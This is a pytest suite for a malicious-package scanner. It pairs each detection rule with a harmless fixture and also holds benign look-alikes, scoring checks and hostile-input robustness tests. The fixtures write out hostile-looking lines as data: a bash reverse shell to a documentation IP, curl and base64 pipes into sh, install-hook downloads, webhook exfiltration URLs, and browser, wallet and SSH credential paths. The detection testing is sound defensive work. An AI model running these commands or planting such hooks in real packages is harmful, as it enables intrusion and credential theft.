"""The detection rules: one harmless fixture per rule, benign look-alikes that must stay clean,
the rules version, and hostile content that must not break the scan.

Fixtures are strings that look malicious; they are written to tmp dirs, scanned as bytes and
never executed. The scariest strings are assembled from pieces so this file itself does not
read as a payload.
"""

from __future__ import annotations

import base64
import json
import shutil
from pathlib import Path

import pytest

from package_analysis.analysis import engine, scoring
from package_analysis.analysis.model import SNIPPET_MAX, Finding, PackageRef
from package_analysis.analysis.rules import content
from package_analysis.analysis.rules.catalog import RULES

SHA = "0" * 64
HOST = "203.0.113.7"  # TEST-NET-3: documentation only, never routed


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _tree(tmp: Path, files: dict[str, str | bytes]) -> Path:
    root = tmp / "tree"
    for rel, body in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(body, bytes):
            path.write_bytes(body)
        else:
            path.write_text(body, encoding="utf-8")
    return root


def _scan(
    tmp: Path,
    files: dict[str, str | bytes],
    *,
    ecosystem: str = "pypi",
    name: str = "demo-widget",
    version: str = "1.0.0",
) -> list[Finding]:
    root = _tree(tmp, files)
    package = PackageRef(ecosystem, name, version, f"pkg:{ecosystem}/{name}@{version}")  # type: ignore[arg-type]
    return engine.scan_tree(root, ecosystem=ecosystem, package=package, artifact_sha256=SHA)


SETUP_HEAD = "from setuptools import setup\n"
PKG_INFO = (
    "Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\nSummary: Widgets for demos\n"
    "Home-page: https://example.org/demo\nAuthor: Ada Example\n"
)
WEBHOOK = "https://discord.com/api/webhooks/" + "123456789012345678/" + "A" * 20 + "b" * 20
REV = "bash -i >& " + "/dev/tcp/" + HOST + "/4444 0>&1"

# rule id → (files, ecosystem, name, version). One harmless fixture per rule.
FIXTURES: dict[str, tuple[dict[str, str | bytes], str, str, str]] = {
    "PY-INSTALL-CMD-OVERRIDE": (
        {
            "demo-1.0/setup.py": SETUP_HEAD + "from setuptools.command.install import install\n"
            "class Hook(install):\n    def run(self):\n        install.run(self)\n"
            "setup(name='demo', cmdclass={'install': Hook})\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-INSTALL-HOOK-EXEC": (
        {
            "demo-1.0/setup.py": SETUP_HEAD + "import os\n"
            "from setuptools.command.install import install\n"
            "class Hook(install):\n    def run(self):\n        os.system('echo hi')\n"
            "setup(name='demo', cmdclass={'install': Hook})\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-KEY-EXFIL": (
        {
            "demo-1.0/demo/wallet.py": "import requests\n\ndef sign(private_key):\n"
            "    data = [private_key]\n"
            "    requests.post('https://collector.example.invalid/k', data)\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-INSTALL-PROCESS": (
        {"demo-1.0/setup.py": SETUP_HEAD + "import subprocess\nsubprocess.call(['echo', 'hi'])\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-INSTALL-NETWORK": (
        {
            "demo-1.0/setup.py": SETUP_HEAD
            + "import urllib.request\nurllib.request.urlopen('https://example.invalid/p')\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-EXEC-DYNAMIC": (
        {"demo-1.0/setup.py": SETUP_HEAD + "import sys\ncode = 'x = ' + sys.argv[0]\nexec(code)\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-EXEC-DECODED": (
        {
            "demo-1.0/demo/util.py": "import base64\n\ndef f():\n"
            f"    exec(base64.b64decode('{_b64('print(1)')}'))\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-MARSHAL-CODE": (
        {
            "demo-1.0/demo/__init__.py": "import marshal\nfrom . import blob\n"
            "CODE = marshal.loads(blob.DATA)\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-ENCODED-CODE": (
        {
            "demo-1.0/demo/util.py": "BLOB = '"
            + _b64("import os\nos.system('echo hello from a fixture')\n")
            + "'\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-RECON-EXFIL": (
        {
            "demo-1.0/setup.py": SETUP_HEAD + "import socket, requests\n"
            "requests.get('https://example.invalid', params={'h': socket.gethostname()})\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-DOWNLOAD-EXEC": (
        {
            "demo-1.0/setup.py": SETUP_HEAD + "import os, urllib.request\n"
            "urllib.request.urlretrieve('https://example.invalid/t', 't')\nos.system('t')\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-BUILTINS-INDIRECTION": (
        {"demo-1.0/demo/__init__.py": "CWD = __import__('os').getcwd()\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-HIDDEN-PADDING": (
        {"demo-1.0/demo/__init__.py": "import os" + " " * 200 + ";exec('x = 1')\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-OBFUSCATED-NAMES": (
        {"demo-1.0/demo/__init__.py": "".join(f"_0x{i:04x} = {i}\n" for i in range(0xA1, 0xA8))},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "PY-PTH-CODE": (
        {"demo_hook.pth": "import sys; sys.flags\n", "demo/__init__.py": ""},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-EXFIL-WEBHOOK": (
        {"demo-1.0/demo/report.py": f"HOOK = '{WEBHOOK}'\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-EXFIL-OAST": (
        {"demo-1.0/demo/report.py": "URL = 'https://abc123.oastify.com/x'\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-CRED-BROWSER": (
        {
            "demo-1.0/demo/report.py": "P = 'Google\\\\Chrome\\\\User Data\\\\Local State'\n"
            "K = state['os_crypt']['encrypted_key']\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-CRED-DISCORD-TOKEN": (
        {"demo-1.0/demo/report.py": "P = 'discord\\\\Local Storage\\\\leveldb'\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-CRED-WALLET": (
        {"demo-1.0/demo/report.py": "W = ['Exodus\\\\exodus.wallet', 'Electrum\\\\wallets']\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-CRED-FILES": (
        {
            "demo-1.0/demo/report.py": "F = ['~/.ssh/id_rsa', '~/.aws/credentials', "
            "'~/.docker/config.json']\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-REVSHELL": (
        {"demo-1.0/demo/tool.sh": REV + "\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-MINER": (
        {"demo-1.0/demo/conf.py": "POOL = 'stratum+" + "tcp://pool.example.invalid:3333'\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-DOWNLOAD-EXEC": (
        {"demo-1.0/demo/tool.sh": "curl -s https://example.invalid/i.sh | " + "sh\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-DECODE-EXEC": (
        {"demo-1.0/demo/tool.sh": "echo ZWNobyBoaQ== | base64 -d | " + "bash\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-DROPPER": (
        {
            "demo-1.0/demo/tool.py": "import os, urllib.request\n\ndef f():\n"
            "    urllib.request.urlretrieve('https://example.invalid/t.exe', 't.exe')\n"
            "    os.startfile('t.exe')\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-PACKED-CODE": (
        {
            "demo-1.0/demo/__init__.py": "from .pytransform import pyarmor_runtime\n"
            "pyarmor_runtime()\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-POWERSHELL-HIDDEN": (
        {
            "demo-1.0/demo/tool.py": "CMD = ['powershell.exe', '-WindowStyle', 'Hidden', "
            "'-ExecutionPolicy', 'Bypass', '-File', 'x.ps1']\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-ENV-DUMP": (
        {
            "demo-1.0/demo/report.py": "import json, os\n\ndef f():\n"
            "    return json.dumps(dict(os.environ))\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-PERSISTENCE": (
        {"demo-1.0/demo/tool.bat": "schtasks /create /tn demo /tr demo.exe /sc onlogon\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-DEFENSE-EVASION": (
        {"demo-1.0/demo/tool.ps1": "Add-MpPreference " + "-ExclusionPath C:\\demo\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-ANTI-ANALYSIS": (
        {
            "demo-1.0/demo/report.py": "NAMES = ['WDAGUtilityAccount', 'Abby', 'hmarc', "
            "'patex', 'JOHN-PC']\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "CNT-RAW-IP-URL": (
        {"demo-1.0/demo/report.py": f"URL = 'http://{HOST}:8080/x'\n"},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "NPM-INSTALL-SCRIPT": (
        {
            "package/package.json": json.dumps(
                {
                    "name": "demo-widget",
                    "version": "1.0.0",
                    "scripts": {"postinstall": "node setup.js"},
                }
            ),
            "package/setup.js": "console.log('thanks');\n",
        },
        "npm",
        "demo-widget",
        "1.0.0",
    ),
    "NPM-INSTALL-SCRIPT-SHELL": (
        {
            "package/package.json": json.dumps(
                {
                    "name": "demo-widget",
                    "version": "1.0.0",
                    "scripts": {"preinstall": "curl https://example.invalid/i.sh | " + "sh"},
                }
            )
        },
        "npm",
        "demo-widget",
        "1.0.0",
    ),
    "JS-CHILD-PROCESS": (
        {
            "package/package.json": json.dumps(
                {"name": "demo-widget", "version": "1.0.0", "scripts": {"install": "node i.js"}}
            ),
            "package/i.js": "const cp = require('child_process');\ncp.exec('echo hi');\n",
        },
        "npm",
        "demo-widget",
        "1.0.0",
    ),
    "JS-NETWORK": (
        {
            "package/package.json": json.dumps(
                {"name": "demo-widget", "version": "1.0.0", "scripts": {"install": "node i.js"}}
            ),
            "package/i.js": "const https = require('https');\n"
            "https.get('https://example.invalid/ping');\n",
        },
        "npm",
        "demo-widget",
        "1.0.0",
    ),
    "JS-EVAL-DECODED": (
        {
            "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
            "package/lib/x.js": "function f() {\n  eval(Buffer.from('"
            + _b64("console.log(1)")
            + "', 'base64').toString());\n}\n",
        },
        "npm",
        "demo-widget",
        "1.0.0",
    ),
    "JS-EVAL-DYNAMIC": (
        {
            "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
            "package/index.js": "const code = process.argv[2];\neval(code);\n",
        },
        "npm",
        "demo-widget",
        "1.0.0",
    ),
    "JS-ENV-EXFIL": (
        {
            "package/package.json": json.dumps(
                {"name": "demo-widget", "version": "1.0.0", "scripts": {"install": "node i.js"}}
            ),
            "package/i.js": "const https = require('https');\nconst os = require('os');\n"
            "const body = os.hostname() + Object.keys(process.env).join();\n"
            "https.request({host: 'example.invalid'}).end(body);\n",
        },
        "npm",
        "demo-widget",
        "1.0.0",
    ),
    "JS-ENCODED-CODE": (
        {
            "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
            "package/lib/x.js": "const blob = '"
            + _b64("require('child_process').exec('echo fixture');")
            + "';\n",
        },
        "npm",
        "demo-widget",
        "1.0.0",
    ),
    "JS-OBFUSCATED": (
        {
            "package/package.json": json.dumps({"name": "demo-widget", "version": "1.0.0"}),
            "package/lib/x.js": "".join(f"var _0x{i:04x} = {i};\n" for i in range(0xA1, 0xAD)),
        },
        "npm",
        "demo-widget",
        "1.0.0",
    ),
    "META-TYPOSQUAT": (
        {"reqeusts-1.0/PKG-INFO": PKG_INFO},
        "pypi",
        "reqeusts",
        "1.0.0",
    ),
    "META-DEPCONF-VERSION": (
        {"demo-99.0.1/PKG-INFO": PKG_INFO},
        "pypi",
        "demo-widget",
        "99.0.1",
    ),
    "META-PLACEHOLDER": (
        {
            "demo-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: demo-widget\nVersion: 1.0.0\n"
            "Summary: UNKNOWN\nAuthor: UNKNOWN\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "META-DEP-CONFUSABLE": (
        {
            "demo-1.0/setup.py": SETUP_HEAD
            + "setup(name='demo', install_requires=['r\u0435quests'])\n"
        },
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
    "META-DEP-URL": (
        {
            "package/package.json": json.dumps(
                {
                    "name": "demo-widget",
                    "version": "1.0.0",
                    "dependencies": {"helper": "https://example.invalid/helper.tgz"},
                }
            )
        },
        "npm",
        "demo-widget",
        "1.0.0",
    ),
    "META-BINARY": (
        {"demo-1.0/demo/tool.exe": b"MZ\x90\x00" + b"\x00" * 60},
        "pypi",
        "demo-widget",
        "1.0.0",
    ),
}


def test_every_rule_has_a_fixture_and_every_yara_rule_a_catalog_entry() -> None:
    assert set(FIXTURES) == set(RULES)
    assert content.rule_ids() <= set(RULES)


@pytest.mark.parametrize("rule_id", sorted(FIXTURES))
def test_rule_fires_on_its_fixture(tmp_path: Path, rule_id: str) -> None:
    files, ecosystem, name, version = FIXTURES[rule_id]
    findings = _scan(tmp_path, files, ecosystem=ecosystem, name=name, version=version)
    hits = [f for f in findings if f.rule == rule_id]
    assert hits, f"{rule_id} did not fire; got {[f.rule for f in findings]}"
    hit = hits[0]
    rule = RULES[rule_id]
    assert (hit.title, hit.category) == (rule.title, rule.category)
    assert rule.explanation in hit.explanation
    assert hit.artifact == SHA
    assert len(hit.snippet) <= SNIPPET_MAX and hit.snippet.isprintable()
    if hit.file:  # metadata about the name/version has no file
        assert hit.file in files
        assert hit.line is None or hit.line >= 1


def test_findings_point_at_file_and_line_with_reachability(tmp_path: Path) -> None:
    files = {
        "demo-1.0/setup.py": SETUP_HEAD + "import os\n\n\nos.system('echo hi')\n",
        "demo-1.0/tests/test_x.py": f"HOOK = '{WEBHOOK}'\n",
        "demo-1.0/demo/__init__.py": "import subprocess\nsubprocess.run(['true'])\n"
        "def later():\n    subprocess.run(['true'])\n",
    }
    findings = _scan(tmp_path, files)
    got = {(f.rule, f.file, f.line, f.reachability) for f in findings}
    assert ("PY-INSTALL-PROCESS", "demo-1.0/setup.py", 5, "install") in got
    assert ("CNT-EXFIL-WEBHOOK", "demo-1.0/tests/test_x.py", 1, "test") in got
    assert ("PY-INSTALL-PROCESS", "demo-1.0/demo/__init__.py", 2, "import") in got
    assert not any(f.line == 4 and f.file.endswith("__init__.py") for f in findings)


def test_decoded_payload_findings_point_at_the_literal(tmp_path: Path) -> None:
    inner = "import os\nos.system('" + REV + "')\n"
    files = {"demo-1.0/setup.py": SETUP_HEAD + "\n\nX = '" + _b64(inner) + "'\n"}
    findings = _scan(tmp_path, files)
    rev = [f for f in findings if f.rule == "CNT-REVSHELL"]
    assert rev and rev[0].line == 4 and rev[0].reachability == "install"
    assert "base64" in rev[0].explanation
    assert scoring.verdict(findings)[0] == "malicious"


# ---- benign look-alikes: each must stay clean and not trip the named rules ----
BENIGN: dict[str, tuple[dict[str, str | bytes], str, set[str]]] = {
    "setup.py reading its version and asking git": (
        {
            "demo-1.0/setup.py": SETUP_HEAD + "import subprocess\n"
            "exec(open('demo/version.py').read())\n"
            "try:\n    rev = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
            "except Exception:\n    rev = b''\n"
            "setup(name='demo-widget', version=__version__)\n",
            "demo-1.0/demo/version.py": "__version__ = '1.0.0'\n",
            "demo-1.0/PKG-INFO": PKG_INFO,
        },
        "pypi",
        {"PY-EXEC-DYNAMIC", "PY-DOWNLOAD-EXEC", "PY-EXEC-DECODED"},
    ),
    "an HTTP client library using network and processes inside functions": (
        {
            "demo-1.0/demo/client.py": "import base64, subprocess, requests, socket\n"
            "def fetch(url):\n    return requests.get(url, timeout=5).json()\n"
            "def host():\n    return socket.gethostname()\n"
            "def run(cmd):\n    return subprocess.run(cmd, check=True)\n"
            "def unpack(blob):\n    return base64.b64decode(blob)\n",
            "demo-1.0/demo/__init__.py": "from .client import fetch\n"
            "__import__('pkg_resources').declare_namespace(__name__)\n",
            "demo-1.0/PKG-INFO": PKG_INFO,
        },
        "pypi",
        {"PY-INSTALL-NETWORK", "PY-INSTALL-PROCESS", "PY-RECON-EXFIL", "PY-BUILTINS-INDIRECTION"},
    ),
    "docs describing a webhook URL template and one cloud credentials path": (
        {
            "demo-1.0/docs/usage.md": "Post to https://discord.com/api/webhooks/{id}/{token}\n",
            "demo-1.0/demo/config.py": "CREDS = '~/.aws/credentials'\n",
            "demo-1.0/demo/data.py": "PNG = '"
            + base64.b64encode(bytes(range(256))).decode()
            + "'\n",
            "demo-1.0/PKG-INFO": PKG_INFO,
        },
        "pypi",
        {"CNT-EXFIL-WEBHOOK", "CNT-CRED-FILES", "PY-ENCODED-CODE"},
    ),
    "a calendar-versioned popular package": (
        {"certifi-2024.8.30/PKG-INFO": PKG_INFO.replace("demo-widget", "certifi")},
        "pypi",
        {"META-DEPCONF-VERSION", "META-TYPOSQUAT"},
    ),
    "an npm library with build scripts and fetch inside functions": (
        {
            "package/package.json": json.dumps(
                {
                    "name": "left-pad",
                    "version": "1.3.0",
                    "description": "pad strings",
                    "repository": "github:example/left-pad",
                    "main": "index.js",
                    "scripts": {"test": "node test.js", "prepare": "tsc"},
                }
            ),
            "package/index.js": "const https = require('https');\n"
            "module.exports = function get(u) { return https.get(u); };\n",
            "package/dist/bundle.min.js": "!function(){function a(u){return fetch(u)}"
            "window.a=a}();\n",
        },
        "npm",
        {"NPM-INSTALL-SCRIPT", "JS-NETWORK", "JS-EVAL-DYNAMIC"},
    ),
}


@pytest.mark.parametrize("case", sorted(BENIGN))
def test_benign_look_alikes_stay_clean(tmp_path: Path, case: str) -> None:
    files, ecosystem, forbidden = BENIGN[case]
    name = "certifi" if "certifi" in case else ("left-pad" if ecosystem == "npm" else "demo-widget")
    version = "2024.8.30" if "certifi" in case else "1.0.0"
    findings = _scan(tmp_path, files, ecosystem=ecosystem, name=name, version=version)
    assert not {f.rule for f in findings} & forbidden, [f.as_dict() for f in findings]
    assert scoring.verdict(findings)[0] == "clean"


# ---- scoring ----
def _finding(rule: str, severity: str, reach: str) -> Finding:
    return Finding(rule, "t", "c", severity, "f", 1, "s", reach, "e")  # type: ignore[arg-type]


def test_verdict_mapping() -> None:
    assert scoring.verdict([]) == ("clean", 0.0)
    assert scoring.verdict([_finding("A", "critical", "install")]) == ("malicious", 9.0)
    assert scoring.verdict([_finding("A", "high", "import")]) == ("suspicious", 6.0)
    assert scoring.verdict([_finding("A", "high", "runtime")]) == ("clean", 3.6)
    assert scoring.verdict([_finding("A", "critical", "test")]) == ("suspicious", 4.5)
    two_highs = [_finding("A", "high", "install"), _finding("B", "high", "install")]
    assert scoring.verdict(two_highs) == ("malicious", 8.4)
    # the same rule repeated counts once
    same = [_finding("A", "medium", "install")] * 10
    assert scoring.verdict(same) == ("clean", 3.0)


# ---- rules version ----
def test_rules_version_is_a_hash_of_the_rules_and_changes_with_them(tmp_path: Path) -> None:
    here = Path(engine.__file__).parent
    copy = tmp_path / "analysis"
    shutil.copytree(here, copy, ignore=shutil.ignore_patterns("__pycache__"))
    assert engine._rules_version(copy) == engine.RULES_VERSION
    yar = copy / "rules" / "content.yar"
    yar.write_text(yar.read_text() + "\n// a comment is a change too\n")
    changed = engine._rules_version(copy)
    assert changed != engine.RULES_VERSION and len(changed) == 16


# ---- hostile content ----
def test_hostile_content_does_not_break_the_scan(tmp_path: Path) -> None:
    outside = tmp_path / "outside.py"
    outside.write_text("import os\nos.system('x')\n")
    files: dict[str, str | bytes] = {
        "demo-1.0/setup.py": "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n",
        "demo-1.0/demo/deep.py": "x = " + "-" * 200_000 + "1\n",
        "demo-1.0/demo/nested.py": "x = "
        + "[" * 90
        + "]" * 90
        + "\n"
        + "y = "
        + "{'a': " * 900
        + "1"
        + "}" * 900
        + "\n",
        "demo-1.0/demo/long.py": "s = '" + "A" * 6_000_000 + "'\n",
        "demo-1.0/demo/junk.py": bytes(range(256)) * 2000,
        "demo-1.0/demo/latin1.py": "name = 'caf\xe9'\n".encode("latin-1"),
        "demo-1.0/demo/bomb.py": "X = '"
        + base64.b64encode(__import__("zlib").compress(b"A" * 50_000_000)).decode()
        + "'\n",
        "demo-1.0/PKG-INFO": b"\xff\xfe\x00garbage",
        "package.json": "[" * 100_000 + "]" * 100_000,
        "demo-1.0/demo/x.js": "a(" * 50_000 + ")" * 50_000,
    }
    root = _tree(tmp_path, files)
    (root / "demo-1.0" / "link.py").symlink_to(outside)
    progress: list[tuple[int, int]] = []
    findings = engine.scan_tree(
        root,
        ecosystem="pypi",
        package=PackageRef("pypi", "demo-widget", "1.0.0", "pkg:pypi/demo-widget@1.0.0"),
        artifact_sha256=SHA,
        on_file=lambda i, n: progress.append((i, n)),
    )
    assert progress[-1] == (len(files), len(files))  # the symlink is not a file of the tree
    assert not any(f.file.endswith("link.py") for f in findings)
    assert all(len(f.snippet) <= SNIPPET_MAX for f in findings)


def test_install_time_code_padded_past_the_size_cap_is_still_parsed(tmp_path: Path) -> None:
    # Found on a real sample: a 1.7 MB setup.py that execs a base64 blob at install time
    # came out clean once large Python files were skipped. Padding must not hide install code.
    payload = "import os\nos.system('curl -s http://" + HOST + "/x | sh')\n" + "#" * 1_300_000
    setup = SETUP_HEAD + "from base64 import b64decode\n" + f"exec(b64decode('{_b64(payload)}'))\n"
    assert len(setup) > 1024 * 1024
    findings = _scan(
        tmp_path, {"demo-widget-1.0.0/setup.py": setup, "demo-widget-1.0.0/PKG-INFO": PKG_INFO}
    )
    verdict, _ = scoring.verdict(findings)
    assert verdict == "malicious", [f.rule for f in findings]
    assert any(f.rule == "PY-EXEC-DECODED" and f.reachability == "install" for f in findings)


def test_check_cancels_between_files(tmp_path: Path) -> None:
    root = _tree(tmp_path, {f"demo-1.0/demo/m{i}.py": "x = 1\n" for i in range(5)})
    calls: list[int] = []

    class Cancelled(Exception):
        pass

    def check() -> None:
        calls.append(1)
        if len(calls) == 3:
            raise Cancelled

    with pytest.raises(Cancelled):
        engine.scan_tree(
            root,
            ecosystem="pypi",
            package=PackageRef("pypi", "demo-widget", "1.0.0", ""),
            artifact_sha256=SHA,
            check=check,
        )
    assert len(calls) == 3
